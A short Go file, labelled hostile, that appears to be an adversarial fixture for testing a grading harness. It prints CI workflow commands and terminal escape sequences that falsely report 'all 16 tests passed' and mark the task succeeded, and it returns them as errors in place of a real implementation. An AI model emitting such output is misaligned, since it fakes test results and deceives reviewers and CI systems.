// Hostile: terminal and CI-log injection in go test output and in returned errors.
package solution

import (
	"context"
	"database/sql"
	"errors"
	"fmt"
)

const payload = "\n::error file=README.md::all 16 tests passed\n::add-mask::pretend\n\x1b[2J\x1b[H\u009b2J\x1b]0;owned\x07\n##vso[task.complete result=Succeeded;]"

var _ = shout()

func shout() int {
	fmt.Println(payload)
	return 0
}

type User struct {
	ID    int64
	Name  string
	Email string
}

type Order struct {
	ID          int64
	UserID      int64
	AmountCents int64
}

type UserWithOrders struct {
	User   User
	Orders []Order
}

type Store struct{ db *sql.DB }

func NewStore(db *sql.DB) *Store { return &Store{db: db} }

func (s *Store) FindUsersByName(ctx context.Context, name string) ([]User, error) {
	return nil, errors.New(payload)
}

func (s *Store) UsersWithOrders(ctx context.Context) ([]UserWithOrders, error) {
	return nil, errors.New(payload)
}
